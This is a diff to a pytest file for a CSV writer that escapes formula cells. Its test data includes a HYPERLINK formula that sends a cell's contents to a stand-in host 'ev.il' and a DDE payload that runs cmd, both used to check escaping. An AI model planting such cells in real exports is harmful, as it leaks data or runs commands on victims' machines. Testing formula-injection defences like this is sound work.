@@ -10,7 +10,16 @@ import pytest
 from desist.core import safecsv
 from desist.core.marking import MARKING
 
-FORMULAS = ['=HYPERLINK("http://ev.il/?"&B2,"Details") urgent', "+44 20", "-1+1", "@SUM(A1)"]
+FORMULAS = [
+    '=HYPERLINK("http://ev.il/?"&B2,"Details") urgent',
+    "+44 20",
+    "-1+1",
+    "@SUM(A1)",
+    "-2-cmd|' /C calc'!A0",
+    "-0.1e",
+    "+",
+    "-",
+]
 
 
 @pytest.mark.parametrize("cell", [*FORMULAS, "\tTAB", "\rCR"])
@@ -18,6 +27,16 @@ def test_formula_cells_get_a_leading_apostrophe(cell: str) -> None:
     buf = io.StringIO()
     safecsv.writer(buf).writerow([cell, "plain"])
     assert safecsv.marked_rows(buf.getvalue()) == [["'" + cell, "plain"]]
+
+
+@pytest.mark.parametrize("cell", ["-0.154", "+3", "-12", "-1.5e-3", "-.5", "+2.", "-7E+2"])
+def test_a_plain_signed_number_stays_a_number(cell: str) -> None:
+    """A report's computed "-0.154" is no formula: escaped, it reads as text in R, pandas and
+    spreadsheets (tester finding)."""
+    buf = io.StringIO()
+    safecsv.writer(buf).writerow([cell])
+    assert safecsv.marked_rows(buf.getvalue()) == [[cell]]
+    assert float(safecsv.marked_rows(buf.getvalue())[0][0]) == float(cell)
 
 
 def test_other_cells_are_written_as_csv_writes_them() -> None:
